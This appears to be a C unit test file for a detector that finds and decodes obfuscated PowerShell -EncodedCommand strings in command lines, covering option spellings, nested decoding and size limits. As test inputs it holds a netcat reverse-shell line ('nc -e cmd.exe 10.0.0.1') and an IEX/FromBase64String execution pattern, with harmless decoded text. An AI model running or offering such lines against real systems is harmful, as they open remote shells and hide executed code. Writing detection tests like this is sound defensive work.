/* SPDX-License-Identifier: Apache-2.0
 *
 * What hides in a command line: every spelling of the option, nothing that is none, hostile sizes and depths.
 */
#include "base/buf.h"
#include "base/limits.h"
#include "event/derive.h"
#include "tap.h"

static struct sp_arena arena;
static struct sp_derived list[SP_DERIVED_LIST_MAX];

static size_t derived(const char *text)
{
    size_t count = 99;

    sp_arena_done(&arena);
    sp_arena_init(&arena, SIZE_MAX);
    ok(sp_derive(&arena, sp_str_c(text), list, &count) == 0);
    return count;
}

#define HI "SABpACEAIQA=" /* Hi!! in UTF-16LE */

TEST(every_spelling_of_the_option_is_read)
{
    static const char *const spellings[] = { "-e ", "-ec ", "-en ", "-enc ", "-EncodedCommand ", "-eNcOdEdCoMmAnD   ", "/enc ", "\u2013enc ", "\u2015e ", "-enc:", "-enc \"" };
    char text[128];

    for (size_t i = 0; i < sizeof spellings / sizeof *spellings; i++) {
        (void)snprintf(text, sizeof text, "powershell -nop %s%s", spellings[i], HI);
        is_u64(derived(text), 1);
        is_str(list[0].text, "Hi!!");
        is_text(list[0].how, "-EncodedCommand");
        is_text(list[0].encoding, "base64 of UTF-16LE");
    }
}

TEST(what_is_no_option_or_no_text_is_left_out)
{
    is_u64(derived("powershell -enc"), 0);
    is_u64(derived("powershell -enc "), 0);
    is_u64(derived("powershell -encx " HI), 0);
    is_u64(derived("powershell -encodedcommands " HI), 0);
    is_u64(derived("some-enc " HI), 0);
    is_u64(derived("nc -e cmd.exe 10.0.0.1"), 0);
    is_u64(derived("tool -e AAAAAAAAAAAA"), 0);      /* zeros */
    is_u64(derived("tool -e /////////////w=="), 0);  /* noncharacters */
    is_u64(derived(""), 0);
    is_u64(derived("-"), 0);
}

TEST(padding_may_be_missing)
{
    is_u64(derived("powershell -e SABpACEAIQA"), 1);
    is_str(list[0].text, "Hi!!");
}

TEST(what_comes_out_is_looked_at_again)
{
    is_u64(derived("powershell -c IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cG93ZXJzaGVsbCAtZW5jIFNBQnBBQ0VBSVFBPQ==')))"), 2);
    is_str(list[0].text, "powershell -enc SABpACEAIQA=");
    is_text(list[0].encoding, "base64 of UTF-8");
    is_u64(list[0].depth, 1);
    is_str(list[1].text, "Hi!!");
    is_u64(list[1].depth, 2);
}

TEST(a_huge_payload_is_cut)
{
    struct sp_buf text;
    size_t count;

    sp_buf_init(&text, 0);
    sp_buf_text(&text, "x -enc ");
    for (size_t i = 0; i < SP_DERIVED_MAX; i++)
        sp_buf_text(&text, "QQBBAEEA"); /* AAA */
    sp_arena_done(&arena);
    sp_arena_init(&arena, SIZE_MAX);
    ok(sp_derive(&arena, sp_buf_view(&text), list, &count) == 0);
    is_u64(count, 1);
    ok(list[0].cut);
    ok(list[0].text.len <= SP_DERIVED_MAX);
    sp_buf_done(&text);
}

TEST(more_than_the_list_holds_are_left_out)
{
    struct sp_buf text;
    size_t count;

    sp_buf_init(&text, 0);
    for (size_t i = 0; i < 1000; i++)
        sp_buf_text(&text, " -e " HI);
    sp_arena_done(&arena);
    sp_arena_init(&arena, SIZE_MAX);
    ok(sp_derive(&arena, sp_buf_view(&text), list, &count) == 0);
    is_u64(count, SP_DERIVED_LIST_MAX);
    sp_buf_done(&text);
}

TEST(memory_that_runs_out_is_said)
{
    size_t count;

    sp_arena_done(&arena);
    sp_arena_init(&arena, 4);
    ok(sp_derive(&arena, SP_STR("powershell -e " HI), list, &count) < 0);
}
